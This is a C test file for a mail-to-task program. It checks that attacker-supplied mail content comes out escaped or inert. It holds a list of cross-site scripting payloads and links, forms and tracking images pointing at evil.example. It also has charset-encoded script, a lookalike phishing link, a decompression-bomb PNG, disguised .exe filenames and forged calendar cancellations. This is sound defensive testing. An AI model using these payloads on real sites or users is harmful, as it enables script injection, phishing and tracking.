/* test_contents.c - what lies in a mail goes nowhere it should not: markup, files, pictures and invitations,
 * from the raw mail to the mails that tell of it (attacks.md F03, F06, P09, U02, U05, X01, X03, X06). */
#include "cases.h"
#include "expect.h"

#include <cardpost/caps.h>
#include <cardpost/mime.h>

#include <string.h>

#define BOB                                                                                                  \
    PROVEN("corp.example")                                                                                   \
    "From: Bob <bob@corp.example>\nTo: tasks@corp.example\nDate: Mon, 23 Nov 2026 08:00:00 +0000\n"          \
    "Message-ID: <x@corp.example>\nMIME-Version: 1.0\n"
#define HTML "Content-Type: text/html; charset=utf-8\n\n"

/* The first part of that type in a mail of ours, decoded by the program's own reader of mails. g_free. */
static char *
part_text(const struct sent *mail, const char *type)
{
    g_autofree char *pattern =
        g_strdup_printf("\r\nContent-Type: %s; charset=utf-8\r\nContent-Transfer-Encoding: "
                        "([a-z0-9-]+)\r\n\r\n((?s:.*?))\r\n--",
                        type);
    g_autoptr(GRegex) part = g_regex_new(pattern, 0, 0, NULL);
    g_autoptr(GMatchInfo) match = NULL;
    ck_assert_msg(g_regex_match(part, mail->raw, 0, &match), "no %s", type);
    g_autofree char *encoding = g_match_info_fetch(match, 1), *text = g_match_info_fetch(match, 2);
    g_autofree char *raw = g_strdup_printf("\r\nContent-Transfer-Encoding: %s\r\n\r\n%s\r\n", encoding, text);
    const struct sent lone = {.raw = raw};
    g_autofree char *words = sent_words(&lone);
    return g_strdup(words + strlen(raw)); /* behind the bytes as they are */
}

/* The names of all elements and attributes of a page and the schemes of its links: "a[href=mailto] ". */
static GHashTable *
names_of(const char *html)
{
    GHashTable *names = g_hash_table_new_full(g_str_hash, g_str_equal, g_free, NULL);
    g_autoptr(GRegex) tag = g_regex_new("<([!/a-zA-Z][^\\s>]*)([^>]*)>", 0, 0, NULL),
                      attribute = g_regex_new("([^\\s=\"']+)=(?:\"([^\"]*)\"|'[^']*'|\\S*)", 0, 0, NULL);
    g_autoptr(GMatchInfo) match = NULL;
    for (g_regex_match(tag, html, 0, &match); g_match_info_matches(match); g_match_info_next(match, NULL)) {
        char *name = g_match_info_fetch(match, 1);
        g_autofree char *rest = g_match_info_fetch(match, 2);
        g_autoptr(GMatchInfo) inner = NULL;
        for (g_regex_match(attribute, rest, 0, &inner); g_match_info_matches(inner);
             g_match_info_next(inner, NULL)) {
            g_autofree char *key = g_match_info_fetch(inner, 1), *value = g_match_info_fetch(inner, 2);
            bool is_link = g_str_equal(key, "href");
            g_hash_table_add(names, g_strdup_printf("%s %s=%.*s", name, key,
                                                    is_link ? (int)strcspn(value, ":") : 0, value));
        }
        g_hash_table_add(names, name);
    }
    return names;
}

/* Bob's mail to li, and the page that li gets. g_free. */
static char *
page_of(struct world *world, const char *subject, const char *rest)
{
    g_autofree char *raw = g_strdup_printf(BOB "Subject: %s @li\n%s", subject, rest);
    expect_outcome(world_mail(world, raw), OUTCOME_APPLIED, rest);
    g_autoptr(GPtrArray) sent = world_sent(world);
    return part_text(sent_to(sent, "li@corp.example"), "text/html");
}

static const struct {
    const char *label, *markup;
    const char *shown; /* what the page must hold of it, escaped; NULL: nothing is asked */
} active[] = {
    {"X01: script", "a<script>alert(1)</script>b", "&lt;script&gt;"},
    {"X01: script in pieces", "<scr<script>ipt>alert(1)</scr</script>ipt>", "&lt;scr&lt;script&gt;"},
    {"X01: handlers", "<img src=x onerror=alert(1)><b onclick='x()'>b</b>", "onerror"},
    {"X01: javascript", "<a href='javascript:alert(1)'>go</a>", "javascript"},
    {"X01: svg", "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>", "&lt;svg"},
    {"X01: math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "&lt;math"},
    {"X01: base", "<base href='https://evil.example/'>text", "&lt;base"},
    {"X01: refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>text", "&lt;meta"},
    {"X01: form", "<form action='https://evil.example'><input name=p><button>Send</button></form>",
     "&lt;form"},
    {"X01: mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">a", "&lt;noscript"},
    {"X01: mutation of a comment", "<!--><img src=x onerror=alert(1)>-->a", "&lt;!--"},
    {"X01: mutation of a list", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>a", "&lt;listing"},
    {"X01: entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script"},
    {"X01: out of an attribute", "\"><script>alert(1)</script><a b=\"", "&quot;&gt;"},
    {"X01: out of the page", "</td></tr></table></body></html><script>alert(1)</script>", "&lt;/td"},
    {"X02: pictures and styles",
     "x<img src='https://evil.example/p.gif'><link rel=stylesheet href='https://evil.example/s'>"
     "<style>@import 'https://evil.example/i'; p{background:url(https://evil.example/b)}</style><p "
     "style=\"background:url('https://evil.example/c')\">y</p><iframe src='https://evil.example/f'></iframe>",
     "&lt;iframe"},
};

/* As HTML, as plain text and in the subject: the page that tells of it has the elements and attributes of one
 * that tells of nothing, and no more. */
START_TEST(X01_X02_nothing_active_in_what_we_send)
{
    static const char *const kinds[] = {HTML, "Content-Type: text/plain; charset=utf-8\n\n"};
    struct world *world = world_new();
    g_autofree char *harmless = page_of(world, "Title", "\none\n\ntwo\n");
    g_autoptr(GHashTable) known = names_of(harmless);
    for (guint i = 0; i < G_N_ELEMENTS(kinds); i++) {
        g_autofree char *rest = g_strdup_printf("%s%s\n", kinds[i], active[_i].markup);
        g_autofree char *page = page_of(world, i == 0 ? active[_i].markup : "Plain", rest);
        g_autoptr(GHashTable) names = names_of(page);
        GHashTableIter iter;
        void *name;
        for (g_hash_table_iter_init(&iter, names); g_hash_table_iter_next(&iter, &name, NULL);)
            ck_assert_msg(g_hash_table_contains(known, name), "%s, %u: <%s>", active[_i].label, i,
                          (const char *)name);
        ck_assert_msg(i == 0 || strstr(page, active[_i].shown), "%s: lost", active[_i].label);
    }
    world_free(world);
}
END_TEST

/* What another charset writes as markup is text like any other: the card has it as text, the page escaped. */
START_TEST(U02_charsets_that_spell_markup)
{
    static const struct {
        const char *label, *rest;
        const char
            *text; /* NULL: the charset is not among those that are read; nothing of markup comes of it */
    } cases[] = {
        {"utf-7", "Content-Type: text/plain; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n",
         "<script>alert(1)</script>"},
        {"utf-7 in HTML",
         "Content-Type: text/html; charset=utf-7\n\n<p>a +ADw-script+AD4-alert(1)+ADw-/script+AD4- b\n",
         "a b"},
        {"utf-7 not declared", "\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n",
         "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"},
        {"ISO-2022-JP escapes",
         "Content-Type: text/plain; charset=iso-2022-jp\n\n\x1b$B$\"\x1b(B<script>\x1b(J\\\x1b(B\n",
         "あ<script>\\"},
        {"ISO-2022-JP, never closed",
         "Content-Type: text/plain; charset=iso-2022-jp\n\na\x1b$B<script>alert(1)\n", NULL},
        {"EBCDIC",
         "Content-Type: text/plain; charset=cp037\nContent-Transfer-Encoding: "
         "base64\n\niIWTk5ZATKKDmYmXo26Bk4WZo03xXUxhooOZiZejbg==\n",
         NULL},
    };
    struct world *world = world_new();
    g_autofree char *page = page_of(world, "Title", cases[_i].rest);
    ck_assert_msg(!strstr(page, "<script"), "%s: active", cases[_i].label);
    g_autoptr(GPtrArray) comments = comment_list(world->store, 1, 1);
    const struct comment *comment = comments->pdata[0];
    ck_assert_msg(g_utf8_validate(comment->text, -1, NULL) && !strpbrk(comment->text, "\x1b\x0e\x0f"), "%s",
                  cases[_i].label);
    ck_assert_msg(cases[_i].text ? g_str_equal(comment->text, cases[_i].text) : !strchr(comment->text, '<'),
                  "%s: \"%s\"", cases[_i].label, comment->text);
    world_free(world);
}
END_TEST

/* The label and the real target both stand in the text of the notice. */
START_TEST(X03_the_real_target_is_told)
{
    static const struct {
        const char *html, *shown;
    } cases[] = {
        {"<a href='https://evil.example/login'>https://bank.example/login</a>",
         "https://bank.example/login <https://evil.example/login>"},
        {"<a href='https://xn--bnk-6cd.example/'>bank.example</a>",
         "bank.example <https://xn--bnk-6cd.example/>"},
    };
    struct world *world = world_new();
    g_autofree char *raw = g_strdup_printf(BOB "Subject: y @li\n" HTML "<p>%s</p>\n", cases[_i].html);
    expect_outcome(world_mail(world, raw), OUTCOME_APPLIED, cases[_i].html);
    g_autoptr(GPtrArray) sent = world_sent(world);
    g_autofree char *said = part_text(sent_to(sent, "li@corp.example"), "text/plain");
    ck_assert_msg(strstr(said, cases[_i].shown), "%s", cases[_i].shown);
    world_free(world);
}
END_TEST

/* ---- files */

/* 100,000 x 100,000 pixels in 33 bytes of picture. */
static const guint8 huge_png[] = {0x89, 'P',  'N', 'G', '\r', '\n', 0x1a, '\n', 0,    0,    0,
                                  13,   'I',  'H', 'D', 'R',  0,    1,    0x86, 0xa0, 0,    1,
                                  0x86, 0xa0, 8,   2,   0,    0,    0,    0x12, 0x34, 0x56, 0x78};
static const guint8 exif_jpeg[] = {0xff, 0xd8, 0xff, 0xe1, 0, 26, 'E', 'x', 'i',  'f',
                                   0,    0,    'M',  'M',  0, 42, 0,   0,   0,    8,
                                   0,    1,    0x88, 0x25, 0, 4,  0,   0,   0xff, 0xd9};
static const guint8 svg_script[] =
    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)"
    "</script><image href=\"http://127.0.0.1:9/x\"/></svg>";

/* Pictures are neither opened nor changed: what was sent in goes out, as a file. */
START_TEST(F06_pictures_go_on_as_they_came)
{
    const struct {
        const char *label, *type, *name;
        const guint8 *bytes;
        gsize len;
    } cases[] = {{"pixels", "image/png", "big.png", huge_png, sizeof huge_png},
                 {"EXIF", "image/jpeg", "where.jpg", exif_jpeg, sizeof exif_jpeg},
                 {"script", "image/svg+xml", "s.svg", svg_script, sizeof svg_script - 1}};
    const char *label = cases[_i].label;
    struct world *world = world_new();
    g_autofree char *base64 = g_base64_encode(cases[_i].bytes, cases[_i].len);
    g_autofree char *raw = g_strdup_printf(
        BOB "Subject: y @li\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nsee\n--b\nContent-Type: %s; "
            "name=\"%s\"\nContent-Transfer-Encoding: base64\n\n%s\n--b--\n",
        cases[_i].type, cases[_i].name, base64);
    expect_outcome(world_mail(world, raw), OUTCOME_APPLIED, label);
    g_autoptr(GPtrArray) sent = world_sent(world);
    const struct sent *notice = sent_to(sent, "li@corp.example");
    g_autoptr(mail_t) read = mime_parse(notice->raw, strlen(notice->raw), NULL);
    ck_assert_msg(read->attachments->len == 1, "%s: %u files", label, read->attachments->len);
    const struct mail_attachment *file = read->attachments->pdata[0];
    ck_assert_msg(!file->is_inline && g_str_equal(file->name, cases[_i].name), "%s: %s", label, file->name);
    g_autoptr(GBytes) got = mime_part(notice->raw, strlen(notice->raw), file->part, NULL);
    g_autoptr(GBytes) want = g_bytes_new_static(cases[_i].bytes, cases[_i].len);
    ck_assert_msg(g_bytes_equal(got, want), "%s: was changed", label);
    ck_assert_msg(!strstr(notice->raw, "Content-Disposition: inline"), "%s", label);
    world_free(world);
}
END_TEST

/* Every name that a file may have is tried in one order, and its content says what it is. */
START_TEST(F03_one_name_and_one_type)
{
    static const struct {
        const char *label, *fields, *content, *name, *type;
    } cases[] = {
        {"three names",
         "Content-Type: application/pdf; name=type.exe\nContent-Disposition: attachment; filename=plain.exe; "
         "filename*=UTF-8''extended.pdf\n",
         "%PDF-1.4\n", "extended.pdf", "application/pdf"},
        {"two names",
         "Content-Type: application/pdf; name=type.exe\nContent-Disposition: attachment; "
         "filename=plain.pdf\n",
         "%PDF-1.4\n", "plain.pdf", "application/pdf"},
        {"twice the same parameter",
         "Content-Type: application/pdf\nContent-Disposition: attachment; filename=first.pdf; "
         "filename=second.exe\n",
         "%PDF-1.4\n", "first.pdf", "application/pdf"},
        {"twice the same field",
         "Content-Type: application/pdf\nContent-Disposition: attachment; "
         "filename=first.pdf\nContent-Disposition: "
         "attachment; filename=second.exe\n",
         "%PDF-1.4\n", "first.pdf", "application/pdf"},
        {"a page under the name of a picture", "Content-Type: image/png; name=a.png\n",
         "<!DOCTYPE html><html><script>alert(1)</script></html>\n", "a.png", "text/html"},
        {"SVG under the name of a picture", "Content-Type: image/png; name=a.png\n",
         "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>\n",
         "a.png", "image/svg+xml"},
    };
    const char *label = cases[_i].label;
    struct world *world = world_new();
    g_autofree char *raw = g_strdup_printf(
        BOB "Subject: y @li\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nsee\n--b\n%s\n%s\n--b--\n",
        cases[_i].fields, cases[_i].content);
    expect_outcome(world_mail(world, raw), OUTCOME_APPLIED, label);
    g_autoptr(GPtrArray) files = attachment_list(world->store, 1);
    ck_assert_msg(files->len == 1, "%s: %u files", label, files->len);
    const struct attachment *file = files->pdata[0];
    ck_assert_msg(g_str_equal(file->name, cases[_i].name), "%s: %s", label, file->name);
    ck_assert_msg(g_str_equal(file->type, cases[_i].type), "%s: %s", label, file->type);
    g_autoptr(GPtrArray) sent = world_sent(world);
    const struct sent *notice = sent_to(sent, "li@corp.example");
    g_autofree char *field =
        g_strdup_printf("Content-Disposition: attachment;\r\n filename=\"%s\"", cases[_i].name);
    ck_assert_msg(strstr(notice->raw, field) && !strstr(notice->raw, ".exe"), "%s", label);
    world_free(world);
}
END_TEST

/* More files than a mail may bring: the first ones are on the card, the others are told, and stay in the
 * mail. */
START_TEST(F04_a_mail_of_small_files)
{
    struct world *world = world_new();
    g_autoptr(GString) raw =
        g_string_new(BOB "Subject: y @li\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nsee\n");
    for (guint i = 0; i < CAP_MAIL_FILES + 50; i++)
        g_string_append_printf(raw, "--b\nContent-Type: text/csv; name=%u.csv\n\na,b\n", i);
    g_string_append(raw, "--b--\n");
    expect_outcome(world_mail(world, raw->str), OUTCOME_APPLIED, "many files");
    g_autoptr(GPtrArray) files = attachment_list(world->store, 1);
    ck_assert_uint_eq(files->len, CAP_MAIL_FILES);
    g_autoptr(GPtrArray) comments = comment_list(world->store, 1, 1);
    const struct comment *comment = comments->pdata[0];
    ck_assert_msg(strstr(comment->text, "[50 files are over the quota"), "%s", comment->text);
    world_free(world);
}
END_TEST

/* ---- which words are the comment */

START_TEST(U05_a_whole_readable_comment)
{
    static const struct {
        const char *label, *rest, *text;
        guint files;
    } cases[] = {
        {"HTML only", HTML "<p>one</p><p>two</p>\n", "one\n\ntwo", 0},
        {"plain text is empty",
         "Content-Type: multipart/alternative; boundary=b\n\n--b\n\n\n--b\n" HTML
         "<ul><li>one</li><li>two</li></ul>\n--b--\n",
         "- one\n- two", 0},
        {"flowed", "Content-Type: text/plain; format=flowed\n\none \ntwo\nthree\n", "one two\nthree", 0},
        {"three texts",
         "Content-Type: multipart/mixed; boundary=b\n\n--b\n\none\n--b\n" HTML
         "<p>two</p>\n--b\n\nthree\n--b--\n",
         "one\n\ntwo\n\nthree", 0},
        {"no text at all, a file", "Content-Type: application/pdf; name=a.pdf\n\n%PDF-1.4\n", "", 1},
        {"nothing at all", "\n", "", 0},
    };
    const char *label = cases[_i].label;
    struct world *world = world_new();
    g_autofree char *page = page_of(world, "Title", cases[_i].rest);
    g_autoptr(GPtrArray) comments = comment_list(world->store, 1, 1);
    const struct comment *comment = comments->pdata[0];
    ck_assert_msg(g_str_equal(comment->text, cases[_i].text), "%s: \"%s\"", label, comment->text);
    g_autoptr(GPtrArray) files = attachment_list(world->store, 1);
    ck_assert_msg(files->len == cases[_i].files, "%s: %u files", label, files->len);
    ck_assert_msg(cases[_i].files == 0 || strstr(page, "a.pdf"), "%s: the file is not told", label);
    world_free(world);
}
END_TEST

/* ---- invitations */

#define ICS(method, rest)                                                                                    \
    "Content-Type: text/calendar; method=" method "; charset=utf-8\n\nBEGIN:VCALENDAR\n" rest                \
    "END:VCALENDAR\n"
#define EVENT(rest)                                                                                          \
    "BEGIN:VEVENT\nUID:fair@corp.example\nSUMMARY:Fair\nDTSTART:20261201T090000Z\nORGANIZER:mailto:ann@"     \
    "corp.example\n" rest "END:VEVENT\n"

/* An invitation is words on the card, of whoever sent it: nothing is cancelled, moved or closed by one. */
START_TEST(X06_invitations_change_nothing)
{
    static const struct {
        const char *label, *rest, *text;
    } cases[] = {
        {"cancelled by another than the organizer", ICS("CANCEL", "METHOD:CANCEL\n" EVENT("SEQUENCE:0\n")),
         "Cancelled / 已取消: Fair"},
        {"a later sequence of another", ICS("REQUEST", "METHOD:REQUEST\n" EVENT("SEQUENCE:7\n")),
         "Invitation / 邀请: Fair"},
        {"another method inside than outside", ICS("REQUEST", "METHOD:CANCEL\n" EVENT("SEQUENCE:1\n")),
         "Cancelled / 已取消: Fair"},
        {"an older sequence later", ICS("REQUEST", "METHOD:REQUEST\n" EVENT("SEQUENCE:0\n")),
         "Invitation / 邀请: Fair"},
    };
    struct world *world = world_new();
    expect_outcome(world_proven_mail(world, "From: ann@corp.example\nTo: tasks@corp.example\nMessage-ID: "
                                            "<one@corp.example>\nSubject: Fair @sue\n" ICS(
                                                "REQUEST", "METHOD:REQUEST\n" EVENT("SEQUENCE:5\n"))),
                   OUTCOME_APPLIED, "the invitation");
    g_autoptr(GPtrArray) told = world_sent(world);
    g_autofree char *raw =
        g_strdup_printf(PROVEN("sup.example") "From: Sue <sue@sup.example>\nTo: %s\nMessage-ID: "
                                              "<s@sup.example>\nSubject: Re: Fair\n%s",
                        sent_to(told, "sue@sup.example")->reply_to, cases[_i].rest);
    struct wish wish = {cases[_i].label,
                        OUTCOME_COMMENTED,
                        "answers a card of theirs",
                        TRUST_GUEST,
                        1,
                        0,
                        "ann@corp.example requester"};
    expect_mail(world, &wish, raw);
    g_autoptr(GPtrArray) comments = comment_list(world->store, 1, 10);
    const struct comment *first = comments->pdata[0], *last = comments->pdata[comments->len - 1];
    ck_assert_msg(g_str_has_prefix(first->text, "Invitation / 邀请: Fair"), "%s: %s", cases[_i].label,
                  first->text);
    ck_assert_msg(g_str_has_prefix(last->text, cases[_i].text), "%s: %s", cases[_i].label, last->text);
    ck_assert_str_eq(last->author_address, "sue@sup.example");
    world_free(world);
}
END_TEST

TCase *
test_contents(void)
{
    TCase *tcase = tcase_create("contents");
    tcase_set_timeout(tcase, 120);
    tcase_add_loop_test(tcase, X01_X02_nothing_active_in_what_we_send, 0, G_N_ELEMENTS(active));
    tcase_add_loop_test(tcase, U02_charsets_that_spell_markup, 0, 6);
    tcase_add_loop_test(tcase, X03_the_real_target_is_told, 0, 2);
    tcase_add_loop_test(tcase, F06_pictures_go_on_as_they_came, 0, 3);
    tcase_add_loop_test(tcase, F03_one_name_and_one_type, 0, 6);
    tcase_add_test(tcase, F04_a_mail_of_small_files);
    tcase_add_loop_test(tcase, U05_a_whole_readable_comment, 0, 6);
    tcase_add_loop_test(tcase, X06_invitations_change_nothing, 0, 4);
    return tcase;
}
